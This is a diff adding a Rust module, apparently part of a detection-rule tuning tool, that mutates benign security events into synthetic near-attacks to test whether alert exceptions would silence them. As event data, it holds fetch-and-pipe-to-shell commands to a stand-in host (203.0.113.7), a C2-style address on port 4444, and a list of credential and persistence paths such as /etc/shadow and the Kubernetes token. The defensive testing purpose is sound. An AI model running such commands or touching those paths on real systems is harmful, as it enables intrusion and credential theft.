@@ -1,0 +1,401 @@
+//! Near-attacks made from the benign events: verification checks that an exception does
+//! not silence them. Each mutation changes the benign event the way an attacker's
+//! look-alike differs from the operator's action:
+//!
+//! - `service_shell`: the same action from a service's shell (a web server or an
+//!   application runtime spawned `sh`, which ran it), with no terminal;
+//! - `other_target`: the same binary acting on another target outside the benign
+//!   directory (a credential, a persistence path, another log), or another server
+//!   (address, name, port);
+//! - `other_script`: the same interpreter running another script or command;
+//! - `dropped_binary`: a binary of the same name run from a temporary directory;
+//! - `download_before`: the same lineage, its shell having first downloaded and run a
+//!   payload (only triage, which sees the session, can tell this one; an exception keys on
+//!   one event and is expected to silence it: it is reported, not held against a candidate
+//!   that cannot avoid it);
+//! - `other_namespace`, `other_image`, `other_user`: another workload or account.
+//!
+//! A mutation counts only when it still raises the rule without an exception, and is
+//! dropped when the benign set itself holds an event with the same changed values.
+
+use serde_json::{Map, Value as Json};
+
+use crate::input::{text, Record};
+use crate::kinds::{command_words, is_interpreter, is_socket_name, PATH_TARGETS};
+
+/// One near-attack.
+#[derive(Clone, Debug)]
+pub struct Mutation {
+    /// What changed (`service_shell`, `other_target`, ...).
+    pub kind: &'static str,
+    /// Whether an exception keyed on one event can avoid silencing it.
+    pub avoidable: bool,
+    /// The fields changed.
+    pub changed: Vec<String>,
+    /// The mutated record.
+    pub record: Record,
+}
+
+/// Places outside most benign directories that attackers touch.
+const OTHER_PATHS: &[&str] = &[
+    "/etc/shadow",
+    "/root/.ssh/authorized_keys",
+    "/etc/cron.d/quell-near-attack",
+    "/etc/systemd/system/quell-near-attack.service",
+    "/etc/ld.so.preload",
+    "/usr/local/bin/quell-near-attack",
+    "/var/log/auth.log",
+    "/var/log/wtmp",
+    "/home/admin/.bash_history",
+    "/var/run/secrets/kubernetes.io/serviceaccount/token",
+    "/proc/1/environ",
+    "/etc/sudoers",
+];
+
+fn parent_dir(p: &str) -> &str {
+    p.rfind('/').map_or("", |i| &p[..i])
+}
+
+struct Builder<'a> {
+    base: &'a Record,
+    map: Map<String, Json>,
+    changed: Vec<String>,
+}
+
+impl<'a> Builder<'a> {
+    fn new(base: &'a Record) -> Option<Builder<'a>> {
+        let Json::Object(map) = serde_json::from_str(&base.event.to_json_line()).ok()? else {
+            return None;
+        };
+        Some(Builder {
+            base,
+            map,
+            changed: Vec::new(),
+        })
+    }
+    fn set(mut self, k: &str, v: impl Into<Json>) -> Self {
+        self.map.insert(k.to_string(), v.into());
+        if !self.changed.iter().any(|c| c == k) {
+            self.changed.push(k.to_string());
+        }
+        self
+    }
+    fn has(&self, k: &str) -> bool {
+        self.map.contains_key(k)
+    }
+    fn set_if(self, k: &str, v: impl Into<Json>) -> Self {
+        if self.has(k) {
+            self.set(k, v)
+        } else {
+            self
+        }
+    }
+    fn build(self, kind: &'static str, avoidable: bool) -> Option<Mutation> {
+        let line = Json::Object(self.map).to_string();
+        let event = quell_events::FlatEvent::from_json_line(&line).ok()?;
+        Some(Mutation {
+            kind,
+            avoidable,
+            changed: self.changed,
+            record: Record {
+                event,
+                rule: self.base.rule.clone(),
+                hostname: self.base.hostname.clone(),
+                decision: None,
+                line: self.base.line,
+                raw_alert: None,
+            },
+        })
+    }
+}
+
+/// The lineage of a shell a service spawned: `server → sh → actor`.
+fn service_shell(r: &Record, server: &str) -> Option<Mutation> {
+    let ev = &r.event;
+    let cmd = text(ev, "proc.cmdline").unwrap_or_else(|| text(ev, "proc.name").unwrap_or_default());
+    let mut b = Builder::new(r)?
+        .set("proc.pname", "sh")
+        .set("proc.aname[1]", "sh")
+        .set("proc.aname[2]", server)
+        .set("proc.aname[3]", "containerd-shim")
+        .set("proc.pcmdline", format!("sh -c {cmd}"))
+        .set_if("proc.pexepath", "/bin/sh")
+        .set_if("proc.pexe", "/bin/sh")
+        .set_if("proc.tty", 0)
+        .set_if("proc.sname", server);
+    for n in 4..=12 {
+        let k = format!("proc.aname[{n}]");
+        if b.has(&k) {
+            b.map.remove(&k);
+        }
+    }
+    b.build("service_shell", true)
+}
+
+/// All mutations of the benign events (deduplicated, at most a few per kind).
+pub fn mutations(benign: &[&Record]) -> Vec<Mutation> {
+    let mut out: Vec<Mutation> = Vec::new();
+    let dirs: Vec<String> = benign
+        .iter()
+        .flat_map(|r| {
+            PATH_TARGETS
+                .iter()
+                .filter_map(|k| text(&r.event, k))
+                .filter(|v| !is_socket_name(v))
+                .map(|v| parent_dir(&v).to_string())
+                .collect::<Vec<_>>()
+        })
+        .collect();
+    for r in benign.iter().take(4) {
+        let ev = &r.event;
+        for server in ["httpd", "node"] {
+            out.extend(service_shell(r, server));
+        }
+        // Another target: a path outside every benign directory, or another server.
+        if let Some(field) = PATH_TARGETS
+            .iter()
+            .find(|k| text(ev, k).is_some_and(|v| !is_socket_name(&v)))
+        {
+            let old = text(ev, field).unwrap_or_default();
+            // Fixed places, and a file beside the benign directory (`/var/log/app/x` →
+            // `/var/log/quell-near-attack`), each outside every benign directory.
+            let beside = {
+                let d = parent_dir(&old);
+                let up = parent_dir(d);
+                (up.matches('/').count() >= 1 && !up.is_empty())
+                    .then(|| format!("{up}/quell-near-attack"))
+            };
+            let candidates: Vec<String> = OTHER_PATHS
+                .iter()
+                .map(|p| p.to_string())
+                .chain(beside)
+                .filter(|p| {
+                    !dirs
+                        .iter()
+                        .any(|d| !d.is_empty() && p.starts_with(&format!("{d}/")))
+                })
+                .collect();
+            for p in &candidates {
+                let p = p.as_str();
+                let mut b = Builder::new(r);
+                for k in PATH_TARGETS {
+                    if text(ev, k).is_some_and(|v| v == old) {
+                        b = b.map(|b| b.set(k, p));
+                    }
+                }
+                if let Some(c) = text(ev, "proc.cmdline").filter(|c| c.contains(&old)) {
+                    b = b.map(|b| b.set("proc.cmdline", c.replace(&old, p)));
+                }
+                if text(ev, "fd.directory").is_some() {
+                    b = b.map(|b| b.set("fd.directory", parent_dir(p)));
+                }
+                out.extend(b.and_then(|b| b.build("other_target", true)));
+            }
+        }
+        if text(ev, "fd.sip").is_some()
+            || text(ev, "fd.sport").is_some()
+            || text(ev, "fd.sip.name").is_some()
+        {
+            let b = Builder::new(r).map(|b| {
+                let mut b = b
+                    .set_if("fd.sip", "203.0.113.7")
+                    .set_if("fd.rip", "203.0.113.7")
+                    .set_if("fd.sip.name", "c2.example.net")
+                    .set_if("fd.rip.name", "c2.example.net")
+                    .set_if("fd.sport", 4444)
+                    .set_if("fd.rport", 4444);
+                if let Some(n) = text(ev, "fd.name").filter(|n| n.contains("->")) {
+                    let client = n.split("->").next().unwrap_or_default().to_string();
+                    b = b.set("fd.name", format!("{client}->203.0.113.7:4444"));
+                }
+                b
+            });
+            out.extend(b.and_then(|b| b.build("other_target", true)));
+        }
+        // Another script for an interpreter; another command for anything else.
+        if let Some(cmd) = text(ev, "proc.cmdline") {
+            let words: Vec<&str> = cmd.split(' ').collect();
+            let name = text(ev, "proc.name").unwrap_or_default();
+            let other = if words.get(1) == Some(&"-c") {
+                Some(format!("{} -c curl -s http://203.0.113.7/x | sh", words[0]))
+            } else if is_interpreter(&name) || words.first().is_some_and(|w| is_interpreter(w)) {
+                let n = command_words(&words);
+                let script = words.get(n.saturating_sub(1)).copied().unwrap_or_default();
+                let ext = script
+                    .rsplit_once('.')
+                    .map(|(_, e)| e)
+                    .filter(|e| e.len() <= 4 && !e.contains('/'));
+                let mut w: Vec<String> = words[..n.saturating_sub(1).max(1)]
+                    .iter()
+                    .map(|s| s.to_string())
+                    .collect();
+                w.push(match ext {
+                    Some(e) => format!("/dev/shm/.cache/run.{e}"),
+                    None => "/dev/shm/.cache/run".into(),
+                });
+                Some(w.join(" "))
+            } else {
+                None
+            };
+            if let Some(o) = other.filter(|o| *o != cmd) {
+                let b = Builder::new(r).map(|b| {
+                    let args = o
+                        .split_once(' ')
+                        .map(|(_, a)| a.to_string())
+                        .unwrap_or_default();
+                    b.set("proc.cmdline", o).set_if("proc.args", args)
+                });
+                out.extend(b.and_then(|b| b.build("other_script", true)));
+            }
+        }
+        // The same name from a temporary directory.
+        if let Some(name) = text(ev, "proc.name") {
+            let dropped = format!("/tmp/.cache/{name}");
+            let b = Builder::new(r).map(|b| {
+                b.set("proc.exepath", dropped.as_str())
+                    .set_if("proc.exe", dropped.as_str())
+                    .set_if("proc.is_exe_upper_layer", true)
+            });
+            out.extend(b.and_then(|b| b.build("dropped_binary", true)));
+            let cmd = text(ev, "proc.cmdline").unwrap_or(name);
+            let b = Builder::new(r).map(|b| {
+                b.set(
+                    "proc.pcmdline",
+                    format!("sh -c curl -s -o /tmp/.u http://203.0.113.7/p && chmod +x /tmp/.u && /tmp/.u; {cmd}"),
+                )
+            });
+            out.extend(b.and_then(|b| b.build("download_before", false)));
+        }
+        // Another workload or account.
+        if let Some(ns) = text(ev, "k8s.ns.name") {
+            let other = if ns == "default" {
+                "kube-system"
+            } else {
+                "default"
+            };
+            out.extend(
+                Builder::new(r)
+                    .and_then(|b| b.set("k8s.ns.name", other).build("other_namespace", true)),
+            );
+        }
+        if let Some(img) = text(ev, "container.image.repository") {
+            let other = if img.ends_with("alpine") {
+                "docker.io/library/busybox"
+            } else {
+                "docker.io/library/alpine"
+            };
+            out.extend(Builder::new(r).and_then(|b| {
+                b.set("container.image.repository", other)
+                    .build("other_image", true)
+            }));
+        }
+        if let Some(u) = text(ev, "user.name") {
+            let (other, uid) = if u == "www-data" {
+                ("nobody", 65534)
+            } else {
+                ("www-data", 33)
+            };
+            out.extend(Builder::new(r).and_then(|b| {
+                b.set("user.name", other)
+                    .set_if("user.uid", uid)
+                    .build("other_user", true)
+            }));
+        }
+    }
+    // Not near-attacks when the benign set holds the same changed values.
+    out.retain(|m| {
+        !benign.iter().any(|b| {
+            m.changed
+                .iter()
+                .all(|k| text(&b.event, k) == text(&m.record.event, k))
+        })
+    });
+    let mut seen = std::collections::BTreeSet::new();
+    out.retain(|m| seen.insert((m.kind, m.record.event.to_json_line())));
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::input::parse_records;
+
+    #[test]
+    fn mutations_of_an_operators_deletion() {
+        let recs = parse_records(
+            r#"{"evt.type":"unlinkat","proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.cmdline":"rm /var/log/dpkg.log","proc.pname":"sh","proc.aname[1]":"sh","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log","proc.tty":34816,"user.name":"root","container.image.repository":"httpd"}"#,
+            "b",
+        )
+        .unwrap();
+        let b: Vec<&Record> = recs.iter().collect();
+        let m = mutations(&b);
+        let kinds: std::collections::BTreeSet<&str> = m.iter().map(|m| m.kind).collect();
+        for k in [
+            "service_shell",
+            "other_target",
+            "dropped_binary",
+            "download_before",
+            "other_image",
+            "other_user",
+        ] {
+            assert!(kinds.contains(k), "{k}: {kinds:?}");
+        }
+        let shell = m.iter().find(|m| m.kind == "service_shell").unwrap();
+        assert_eq!(
+            text(&shell.record.event, "proc.aname[2]").as_deref(),
+            Some("httpd")
+        );
+        assert_eq!(
+            text(&shell.record.event, "fs.path.name").as_deref(),
+            Some("/var/log/dpkg.log")
+        );
+        // Another target never lies in the benign directory, and the command line follows it.
+        for t in m.iter().filter(|m| m.kind == "other_target") {
+            let p = text(&t.record.event, "fs.path.name").unwrap();
+            assert!(!p.starts_with("/var/log/"), "{p}");
+            assert!(text(&t.record.event, "proc.cmdline").unwrap().ends_with(&p));
+        }
+        // The user is already www-data in a second benign event: no user mutation then.
+        let two = parse_records(
+            &[
+                r#"{"evt.type":"unlinkat","proc.name":"rm","fs.path.name":"/var/log/a","user.name":"root"}"#,
+                r#"{"evt.type":"unlinkat","proc.name":"rm","fs.path.name":"/var/log/a","user.name":"www-data"}"#,
+            ]
+            .join("\n"),
+            "b",
+        )
+        .unwrap();
+        let b: Vec<&Record> = two.iter().collect();
+        let users: Vec<String> = mutations(&b)
+            .iter()
+            .filter(|m| m.kind == "other_user")
+            .filter_map(|m| text(&m.record.event, "user.name"))
+            .collect();
+        assert_eq!(users, vec!["nobody".to_string()]);
+    }
+
+    #[test]
+    fn interpreters_get_another_script_and_connections_another_server() {
+        let recs = parse_records(
+            r#"{"evt.type":"connect","proc.name":"python3","proc.cmdline":"python3 /opt/backup/push.py --all","fd.sip":"10.0.3.7","fd.sport":5432,"fd.name":"10.0.0.5:43122->10.0.3.7:5432"}"#,
+            "b",
+        )
+        .unwrap();
+        let b: Vec<&Record> = recs.iter().collect();
+        let m = mutations(&b);
+        let script = m.iter().find(|m| m.kind == "other_script").unwrap();
+        assert_eq!(
+            text(&script.record.event, "proc.cmdline").as_deref(),
+            Some("python3 /dev/shm/.cache/run.py")
+        );
+        let t = m.iter().find(|m| m.kind == "other_target").unwrap();
+        assert_eq!(
+            text(&t.record.event, "fd.sip").as_deref(),
+            Some("203.0.113.7")
+        );
+        assert_eq!(
+            text(&t.record.event, "fd.name").as_deref(),
+            Some("10.0.0.5:43122->203.0.113.7:4444")
+        );
+    }
+}
